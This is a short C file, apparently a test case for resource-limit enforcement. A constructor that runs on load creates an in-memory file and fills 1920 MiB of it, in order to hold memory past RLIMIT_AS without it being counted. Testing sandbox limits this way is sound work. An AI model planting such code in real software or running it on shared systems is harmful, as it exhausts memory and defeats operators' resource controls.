
/* Attack: hold memory past RLIMIT_AS where it does not count: a memfd grown to 1920 MiB. */
#define _GNU_SOURCE
#include <sys/mman.h>
#include <unistd.h>

__attribute__((constructor)) static void attack_memfd(void)
{
    int fd = memfd_create("hoard", 0);
    if (fd >= 0 && ftruncate(fd, 1920L << 20) == 0)
        for (long off = 0; off < 1920L << 20; off += 1 << 20)
            pwrite(fd, "x", 1, off);
}
